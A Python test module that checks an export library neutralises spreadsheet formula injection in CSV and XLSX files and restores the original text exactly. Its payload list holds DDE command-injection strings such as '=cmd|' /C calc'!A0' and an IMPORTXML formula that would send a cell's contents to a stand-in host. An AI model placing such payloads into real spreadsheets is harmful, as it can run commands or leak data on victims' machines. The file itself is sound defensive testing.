"""Formulas: no cell of ours is one, and every text comes back as it was."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from automation.exchange.csv_text import CsvFile
from automation.exchange.exporting import write_csv, write_xlsx
from automation.exchange.files import opened
from automation.exchange.harmless import STARTS, from_xml, harmless, is_dangerous, restored, xml_safe
from automation.exchange.table import text_of

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid","klik")',
    '=IMPORTXML(CONCAT("http://contoh.invalid/?x=",A1),"//a")',
    "+62812-0000-0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "'",
    "'kutip",
    "%0A=1+1",
    "Harga; =1+1",
    "baris\r\nkedua",
    "_x0041_",
    "\x0b=1",
    "\x00",
    "😀=",
)


def in_csv(text: str, folder: Path) -> str:
    path = folder / "satu.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        write_csv([("Judul", "Lain"), (text, "x")], file)
    raw = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline=""), delimiter=";"))
    assert not raw[1][0].lstrip(" \u00a0").startswith(tuple(STARTS)), "no program may compute it"
    return text_of(list(CsvFile(path).rows())[1].cells[0])


def in_xlsx(text: str, folder: Path) -> str:
    path = folder / "satu.xlsx"
    write_xlsx([("Judul", "Lain"), (text, "x")], path)
    cell = openpyxl.load_workbook(path).active["A2"]
    assert cell.data_type in ("s", "inlineStr", "n"), cell.data_type
    assert cell.data_type != "n" or cell.value is None
    assert cell.quotePrefix or not is_dangerous(text)
    with opened(path) as tables:
        return text_of(list(tables.rows("Pengaduan"))[1].cells[0])


@pytest.mark.parametrize("text", PAYLOADS, ids=repr)
def test_payloads_are_text_and_come_back(text: str, tmp_path: Path) -> None:
    assert in_xlsx(text, tmp_path) == text
    if "\0" not in text:  # which no CSV file holds
        assert in_csv(text, tmp_path) == text


@given(st.text())
def test_what_is_made_harmless_is_and_comes_back(text: str) -> None:
    assert not is_dangerous(harmless(text))
    assert restored(harmless(text)) == text


@given(st.text(st.sampled_from("'=+-@ \t\r\n＝a_x0041_\x0b\ud800")))
def test_the_signs_that_matter_come_back(text: str) -> None:
    assert restored(harmless(text)) == text
    assert from_xml(xml_safe(text)) == text
